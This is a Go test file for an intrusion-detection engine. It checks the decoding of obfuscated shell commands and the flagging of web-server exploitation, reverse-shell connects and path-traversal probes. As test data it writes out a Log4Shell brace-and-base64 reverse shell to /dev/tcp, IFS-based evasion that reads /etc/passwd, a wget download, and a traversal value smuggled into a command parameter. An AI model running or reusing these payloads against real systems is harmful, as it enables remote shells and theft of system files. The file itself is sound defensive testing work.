package detect

import (
	"reflect"
	"strconv"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/parser"
)

func TestShellForms(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
	}{
		{ // OTRF's Log4Shell capture, as Sysmon logged it
			"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}",
			[]string{"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=|base64 -d|bash -i",
				"bash -i >& /dev/tcp/192.168.2.6/443 0>&1"},
		},
		{"cat${IFS}/etc/passwd", []string{"cat /etc/passwd"}},
		{"wget$IFS$9http://x/a", []string{"wget http://x/a"}},
		{"echo aWQ | base64 -d | sh", nil}, // too short to hide anything
		{"echo L2Jpbi9iYXNoIC1p | base64 --decode | sh", []string{"/bin/bash -i"}},
		{"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=", nil}, // not decoded by the command
		{"ls ${HOME} {a..z} x{a,b}", nil},                                      // not a command-position brace word
		{"convert in.png -resize 64x64 out.png", nil},
		{"echo //////////////////////w== | base64 -d", nil}, // binary, not text
	} {
		if got := shellForms(c.in); !reflect.DeepEqual(got, c.want) {
			t.Errorf("shellForms(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func FuzzShellForms(f *testing.F) {
	f.Add("{echo,YmFzaCAtaQ==}|{base64,-d}|{bash,-i}")
	f.Add("cat${IFS}/etc/passwd")
	f.Fuzz(func(t *testing.T, s string) {
		forms := shellForms(s)
		if len(forms) > shellFormsMax+1 {
			t.Fatalf("%d forms", len(forms))
		}
	})
}

// TestLog4ShellShape is the shape of OTRF's public Log4Shell capture
// (testdata/public/corpus/otrf-log4shell): Tomcat's java, seen only by
// its connects (no exec, no command line, no parent), looks up the
// attacker's LDAP server; its child runs a brace-and-base64 reverse shell.
// The java process is the application server itself, not a shell acting
// for it: its connects open no channel. The shell is web-server
// exploitation, found through what bash would read.
func TestLog4ShellShape(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	fs := e.Observe(s.next(&parser.Event{Kind: parser.KindConnect, Syscall: "connect", Success: true, PID: 1340,
		UID: parser.NewID(1001), EUID: parser.NewID(1001), User: "tomcat", Exe: "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java",
		Peer: parser.Addr{Family: "inet", IP: "192.168.2.6", Port: 1389}}), s.tree)
	if f := has(fs, "web-reverse-shell-connect"); f != nil {
		t.Errorf("java's own LDAP lookup taken for a reverse shell: %s", f.Reason)
	}
	fs = e.Observe(s.exec(17790, 1340, 1001, "tomcat", "/", "/bin/bash", "bash", "-c",
		"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"), s.tree)
	f := has(fs, "web-server-exploitation")
	if f == nil {
		t.Fatalf("brace-and-base64 shell under the server: %v", ids(fs))
	}
	if strings.Contains(f.Reason, "1389") || f.Stage == StageCommandAndControl {
		t.Errorf("placed in java's LDAP connection as a channel: stage %v, %s", f.Stage, f.Reason)
	}
}

// TestServedDirs: directories are learned from where a web server's
// children run, never from system or temp folders, and bounded.
func TestServedDirs(t *testing.T) {
	s := servedDirs{}
	s.learn("h", "/srv/reports/www")
	s.learn("h", "/")
	s.learn("h", "/tmp/x")
	s.learn("h", "/srv")
	for _, c := range []struct {
		host, path string
		want       bool
	}{
		{"h", "/srv/reports/www/cache/.sess.php", true},
		{"h", "/srv/reports/www/index.php", true},
		{"h", "/srv/reports/data/ledger.csv", false},
		{"h", "/tmp/x/a.php", false},
		{"h", "/etc/passwd", false},
		{"other", "/srv/reports/www/index.php", false},
	} {
		if got := s.contains(c.host, c.path); got != c.want {
			t.Errorf("contains(%s, %s) = %v, want %v", c.host, c.path, got, c.want)
		}
	}
	for i := 0; i < maxServedDirs+10; i++ {
		s.learn("h", "/srv/site/"+strings.Repeat("d", i%50)+string(rune('a'+i%26))+"/"+strconv.Itoa(i))
	}
	if len(s) > maxServedDirs {
		t.Errorf("%d directories, bound %d", len(s), maxServedDirs)
	}
}

// TestTraversalProbe: the application's own command with one parameter
// replaced by a path traversal is a probe of that parameter (initial
// access), as the cgi-backdoor capture's scanner sent; a command that
// always holds "../" is not.
func TestTraversalProbe(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	e.Observe(s.exec(300, 1, 33, "www-data", "/", "/usr/sbin/lighttpd", "/usr/sbin/lighttpd", "-D"), s.tree)
	for i, m := range []string{"2026-09", "2026-10", "2026-11"} {
		e.Observe(s.exec(310+i, 300, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "/usr/local/bin/rptgen --out ../out --month "+m+" 2>&1"), s.tree)
	}
	fs := e.Observe(s.exec(320, 300, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "/usr/local/bin/rptgen --out ../out --month ../../../../etc/passwd 2>&1"), s.tree)
	f := has(fs, "web-server-exploitation")
	if f == nil || f.Stage != StageInitialAccess {
		t.Fatalf("traversal in the month: %v (stage %v)", ids(fs), func() Stage {
			if f != nil {
				return f.Stage
			}
			return StageNone
		}())
	}
	if e.state.traversalProbe(nil, "a ../b") {
		t.Error("a probe without a server")
	}
}

// TestTargetsCutCounted: a rule reports at most maxTargetsPerKind targets
// per process and kind; what it leaves out is counted, never silent.
func TestTargetsCutCounted(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	e.Observe(s.exec(400, 1, 33, "www-data", "/", "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start"), s.tree)
	e.Observe(s.exec(401, 400, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "python3 -c 'x'"), s.tree)
	e.Observe(s.exec(402, 401, 33, "www-data", "/var/www", "/usr/bin/python3.11", "python3", "-c", "x"), s.tree)
	n := 0
	for i := 0; i < maxTargetsPerKind+5; i++ {
		n += len(e.Observe(s.connect(402, 401, 33, "/usr/bin/python3.11", "203.0.113."+strconv.Itoa(i+1), 443), s.tree))
	}
	cut, bound := e.TargetsCut()
	if bound != maxTargetsPerKind || cut == 0 || n == 0 {
		t.Errorf("%d findings, %d matches cut (bound %d): want some of each", n, cut, bound)
	}
}
